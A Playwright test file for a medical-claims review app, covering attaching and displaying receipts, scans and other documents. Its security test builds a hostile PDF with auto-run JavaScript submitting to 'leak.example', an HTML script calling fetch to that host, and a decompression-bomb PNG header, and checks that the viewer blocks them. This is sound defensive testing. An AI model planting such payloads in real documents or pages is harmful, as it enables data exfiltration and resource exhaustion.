import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page, Worker } from '@playwright/test';
import PDFDocument from 'pdfkit';
import { expect, takeFaults, test } from './app.ts';
import { claimTitle, drop, exploreSample, goTo, openList, pressKey } from './steps.ts';

const documents = (page: Page) => page.getByRole('region', { name: /^Documents \(/ });
const review = (page: Page) => page.getByRole('region', { name: 'Review', exact: true });

/** A PDF file with a page of text for each of these. */
const makePdf = (texts: readonly string[]): Promise<Buffer> =>
  new Promise((resolve) => {
    const pdf = new PDFDocument({ autoFirstPage: false });
    const parts: Buffer[] = [];
    pdf.on('data', (part: Buffer) => parts.push(part));
    pdf.on('end', () => resolve(Buffer.concat(parts)));
    for (const text of texts) pdf.addPage().fontSize(24).text(text);
    pdf.end();
  });

/** A PDF file that runs a script and opens an address as soon as a viewer allows it. */
const hostilePdf = `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/AA<</WC 4 0 R>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/AA<</O 5 0 R>>>>endobj
4 0 obj<</S/JavaScript/JS(app.alert\\('ran'\\);this.submitForm\\('https://leak.example/'\\);)>>endobj
5 0 obj<</S/URI/URI(https://leak.example/)>>endobj
trailer<</Root 1 0 R>>
%%EOF`;

/** The first claim of the list with what a receipt says of it, as the list shows it. */
async function readReceipt(page: Page) {
  const rows = await openList(page, 'Claims');
  for (let at = 0; ; at += 1) {
    const cellText = (column: string) => rows.nth(at).locator(`[col-id="${column}"]`).innerText();
    const [id, patient] = [await cellText('id'), await cellText('patient_name')];
    const [day, billed] = [await cellText('date_of_service'), await cellText('amount_billed')];
    if (/\w \w/.test(patient) && /^[\d/]+$/.test(day) && /^\$\d/.test(billed))
      return { id, patient, day, billed };
  }
}

/** A PDF file of one image of 8 × 8 pixels and no text, as a scanner makes it. */
const makeScan = (filter: string, data: string): Buffer =>
  Buffer.from(
    `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>>>endobj
4 0 obj<</Length 27>>stream
q 200 0 0 200 0 0 cm /I Do Q
endstream endobj
5 0 obj<</Type/XObject/Subtype/Image/Width 8/Height 8/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/${filter}/DecodeParms<</K -1/Columns 8/Rows 8>>/Length ${data.length}>>stream
${data}
endstream endobj
trailer<</Root 1 0 R>>
%%EOF`,
    'latin1',
  );
/** There is no decoder for JPEG 2000. */
const jpeg2000Scan = makeScan('JPXDecode', '\xff\x4f\xff\x51image');
/** Eight black rows in Group 4 coding: the first in full, each other one as the one above it. */
const faxScan = makeScan('CCITTFaxDecode', '\x26\xa2\xff\xfe\x00\x20\x02');

async function confirm(page: Page): Promise<void> {
  await page.getByRole('dialog', { name: 'Attach file' }).getByRole('button', { name: 'Attach' }).click();
  await expect(page.getByRole('dialog')).toHaveCount(0);
}

async function openClaim(page: Page): Promise<void> {
  const rows = await openList(page, 'Claims');
  await rows.first().dblclick();
  await expect(claimTitle(page)).toBeVisible();
  await expect(documents(page)).toBeVisible();
}

/** Opens a document, and returns its dialog. */
async function open(page: Page, name: string) {
  await documents(page).getByRole('button', { name, exact: true }).click();
  return page.getByRole('dialog', { name });
}

/** Whether a canvas has a pixel that isn't white. */
const isDrawn = (canvas: HTMLCanvasElement): boolean =>
  canvas
    .getContext('2d')
    ?.getImageData(0, 0, canvas.width, canvas.height)
    .data.some((value, at) => at % 4 < 3 && value < 128) === true;

test('a claim waits for a receipt, which is dropped, shown, makes it due, and it is decided', async ({
  page,
}) => {
  await exploreSample(page);
  await openClaim(page);
  const url = page.url();
  await pressKey(page, 'w');
  const waiting = page.getByRole('dialog');
  await waiting.getByLabel('Waiting on').fill('Member');
  await page.keyboard.press('Tab');
  await waiting.getByRole('textbox', { name: 'Reason' }).fill('Itemized receipt');
  await waiting.getByRole('button', { name: 'Mark as waiting' }).click();
  await expect(waiting).toHaveCount(0);
  await page.goto(url);
  await expect(review(page).getByText('Itemized receipt')).toBeVisible();

  await drop(page, '../receipt.pdf', await makePdf(['Acme Pharmacy', 'Second page']));
  await expect(page.getByRole('dialog')).toContainText('This claim is waiting.');
  await confirm(page);
  await expect(documents(page)).toContainText('Itemized receipt');
  await expect(review(page).getByText(/^Itemized receipt came \d/)).toBeVisible();

  const shown = await open(page, 'receipt.pdf');
  await expect(shown.getByRole('img', { name: 'Page 2' })).toBeVisible();
  expect(await shown.getByRole('img', { name: 'Page 1' }).evaluate(isDrawn)).toBe(true);
  await page.keyboard.press('Escape');
  await expect(shown).toHaveCount(0);

  await review(page)
    .getByRole('button', { name: /^Eligible/ })
    .click();
  await page.goto(url);
  await expect(review(page).getByText(/^Reviewed/)).toBeVisible();
  await expect(documents(page).getByRole('button', { name: 'receipt.pdf', exact: true })).toBeVisible();
});

test('pictures, text and other files are attached by keys alone, and shown or saved', async ({
  app,
  page,
}) => {
  await exploreSample(page);
  await openClaim(page);
  const folder = app.downloadsDir;
  const picture = await page.screenshot();
  for (const [name, bytes] of [
    ['photo.png', picture],
    ['note.txt', 'Paid in cash, $12.00'],
    ['scan.tiff', Buffer.from('49492a0008000000', 'hex')],
  ] as const) {
    const chosen = page.waitForEvent('filechooser');
    await documents(page).getByRole('button', { name: 'Attach file…' }).focus();
    await page.keyboard.press('Enter');
    await writeFile(join(folder, '..', name), bytes);
    await (await chosen).setFiles(join(folder, '..', name));
    await expect(page.getByRole('combobox', { name: 'Kind' })).toBeFocused();
    await page.keyboard.press('Enter');
    await confirm(page).catch(() => undefined);
    await expect(documents(page).getByRole('button', { name, exact: true })).toBeVisible();
  }
  let shown = await open(page, 'photo.png');
  await expect(shown.locator('canvas')).toBeVisible();
  await shown.getByRole('button', { name: 'Zoom in' }).click();
  await expect(shown.getByText('150%')).toBeVisible();
  await page.keyboard.press('Escape');
  shown = await open(page, 'note.txt');
  await expect(shown.getByText('Paid in cash, $12.00')).toBeVisible();
  await shown.getByRole('button', { name: 'Print…' }).click();
  await shown.getByText('Carrier follow-up').click();
  await page.evaluate(() => {
    const sheet = () => document.querySelector('[data-print-sheet]')?.textContent ?? '';
    window.print = () => document.documentElement.setAttribute('data-printed', sheet());
  });
  await shown.getByRole('button', { name: 'Print', exact: true }).click();
  await expect(page.locator('html')).toHaveAttribute('data-printed', 'Paid in cash, $12.00');
  await page.evaluate(() => window.dispatchEvent(new Event('afterprint')));
  await expect(shown.getByRole('button', { name: 'Print…' })).toBeFocused();
  await page.keyboard.press('Escape');
  shown = await open(page, 'scan.tiff');
  await expect(shown).toContainText('can’t be shown here');
  await shown.getByRole('button', { name: 'Save a copy…' }).click();
  await shown.getByText('Carrier follow-up').click();
  await shown.getByRole('button', { name: /^Save copy/ }).click();
  await expect(shown.getByText(/^Saved as/)).toBeVisible();
});

test('a hostile file runs nothing, asks no address, and is shown or refused', async ({ page }) => {
  await exploreSample(page);
  await openClaim(page);
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => void dialogs.push(dialog.message()));

  await drop(page, 'hostile.pdf', hostilePdf);
  await confirm(page);
  let shown = await open(page, 'hostile.pdf');
  await expect(shown.getByRole('img', { name: 'Page 1' })).toBeVisible();
  await page.keyboard.press('Escape');
  await expect(shown).toHaveCount(0);

  // 60,000 × 60,000 pixels by its header: 14 GB once it is decoded.
  const huge = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
  const size = Buffer.alloc(8);
  size.writeUInt32BE(60_000, 0);
  size.writeUInt32BE(60_000, 4);
  await drop(page, 'huge.png', Buffer.concat([huge, size, Buffer.from('0806000000', 'hex')]));
  await confirm(page);
  shown = await open(page, 'huge.png');
  await expect(shown.getByRole('alert')).toContainText('too large to be shown');
  await page.keyboard.press('Escape');
  await expect(shown).toHaveCount(0);

  await drop(page, 'page.html', '<script>fetch("https://leak.example/")</script>');
  await confirm(page);
  shown = await open(page, 'page.html');
  await expect(shown.getByText('<script>')).toBeVisible();

  expect(dialogs).toEqual([]);
  expect(asked.filter((url) => !new URL(url).hostname.startsWith('127.'))).toEqual([]);
});

test('the thread of a PDF file reaches no address, and later pages keep the zoom', async ({ page }) => {
  await exploreSample(page);
  await openClaim(page);
  await drop(page, 'long.pdf', await makePdf(Array.from({ length: 12 }, (_, at) => `Page ${at}`)));
  await confirm(page);
  const shown = await open(page, 'long.pdf');
  await expect(shown.getByRole('img', { name: 'Page 10', exact: true })).toBeVisible();
  await shown.getByRole('button', { name: 'Zoom in' }).click();
  await shown.getByRole('button', { name: 'Later pages' }).click();
  const last = shown.getByRole('img', { name: 'Page 12' });
  await expect(last).toHaveAttribute('style', /width: 150%/);
  await shown.getByRole('button', { name: 'Go to page 12' }).click();
  await expect(last).toBeInViewport();
  expect(page.workers()).toHaveLength(1);
  const reach = (address: string): Promise<string> =>
    (page.workers()[0] as Worker).evaluate(
      (url) =>
        fetch(url, { mode: 'no-cors' }).then(
          () => 'done',
          () => 'refused',
        ),
      address,
    );
  for (const address of [page.url(), 'https://leak.example/']) expect(await reach(address)).toBe('refused');
  takeFaults(page);
  await page.keyboard.press('Escape');
  await expect(shown).toHaveCount(0);
  await expect.poll(() => page.workers().length).toBe(0);
});

test('several files are asked for in turn, and a file is removed once that is confirmed', async ({
  page,
}) => {
  await exploreSample(page);
  await openClaim(page);
  await drop(page, 'first.txt', 'The same bytes', ['second.txt', 'third.txt']);
  await expect(page.getByRole('dialog')).toContainText('first.txt');
  await page.getByRole('dialog').getByRole('button', { name: 'Attach' }).click();
  await expect(page.getByRole('dialog')).toContainText('second.txt');
  await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).click();
  await expect(page.getByRole('dialog')).toContainText('third.txt');
  await confirm(page);
  await expect(documents(page).getByRole('listitem')).toHaveCount(1);
  await documents(page).getByRole('button', { name: 'Remove third.txt' }).click();
  const asked = page.getByRole('dialog', { name: 'Remove this document?' });
  await expect(asked).toContainText('third.txt is removed from this claim.');
  await asked.getByRole('button', { name: 'Remove document' }).click();
  await expect(documents(page).getByRole('listitem')).toHaveCount(0);
});

test('a receipt dropped on Start is matched to its claim by patient, day and amount, and is attached once confirmed', async ({
  page,
}) => {
  await exploreSample(page);
  const { id, patient, day, billed } = await readReceipt(page);
  await goTo(page, 'Start');
  await drop(
    page,
    'receipt.pdf',
    await makePdf([`Patient: ${patient}\nDate of service: ${day}\nTotal: ${billed}`]),
  );
  const dialog = page.getByRole('dialog', { name: 'Attach file' });
  await expect(dialog.getByRole('button', { name: 'Attach' })).toBeDisabled();
  const match = dialog.getByRole('radio', { name: new RegExp(`^Claim ${id} `) });
  await expect(match).toHaveAccessibleDescription(`Patient, day, ${billed} agree.`);
  await expect(match).toBeFocused();
  await expect(page.locator('[type="radio"]:focus-visible')).toHaveCount(1);
  await pressKey(page, 'Enter');
  await expect(page.getByText(`Attached to claim ${id}.`)).toBeVisible();

  // On the page of another claim, the number of this one is noticed.
  const rows = await openList(page, 'Claims');
  await rows.filter({ hasNotText: id }).first().dblclick();
  await expect(documents(page)).toBeVisible();
  await drop(page, 'eob.txt', `Explanation of benefits, claim ${id}`);
  await expect(dialog).toContainText('This file has the number of another claim');
  await expect(dialog.getByRole('radio', { name: 'This claim' })).toBeChecked();
  await dialog.getByRole('radio', { name: new RegExp(`^Claim ${id} `) }).check();
  await confirm(page);
  await expect(documents(page).getByRole('listitem')).toHaveCount(0);
  await page.goto(page.url().replace(/claims\/\d+/, `claims/${id}`));
  await expect(documents(page).getByRole('listitem')).toHaveCount(2);
});

test('a scan says that it has no text, its claim is found by number, and its page says what is missing', async ({
  app,
  page,
}) => {
  await exploreSample(page);
  const { id } = await readReceipt(page);
  await goTo(page, 'Start');
  const path = join(app.downloadsDir, '..', 'scan.pdf');
  await writeFile(path, jpeg2000Scan);
  const chosen = page.waitForEvent('filechooser');
  await page.keyboard.press('Control+k');
  await page.getByRole('dialog').getByRole('textbox').fill('Attach a document');
  await expect(page.getByRole('dialog').getByText('Attach a document…')).toBeVisible();
  await page.keyboard.press('Enter');
  await (await chosen).setFiles(path);
  const dialog = page.getByRole('dialog', { name: 'Attach file' });
  await expect(dialog.getByRole('status')).toHaveText('This file has no text. Choose the claim.');
  const search = dialog.getByRole('combobox', { name: /laim or member/ });
  await expect(search).toBeFocused();
  await search.fill(id);
  await page.getByRole('option', { name: new RegExp(`^Claim ${id} `) }).click();
  await confirm(page);
  await page.getByText(`Attached to claim ${id}.`).waitFor();
  const rows = await openList(page, 'Claims');
  await rows.filter({ hasText: id }).first().dblclick();
  const shown = await open(page, 'scan.pdf');
  await expect(shown.getByRole('note')).toContainText('an image that can’t be shown here');
  await page.keyboard.press('Escape');
  await expect(shown).toHaveCount(0);
  await drop(page, 'fax.pdf', faxScan);
  await confirm(page);
  const fax = (await open(page, 'fax.pdf')).getByRole('img', { name: 'Page 1' });
  expect(await fax.evaluate(isDrawn)).toBe(true);
});
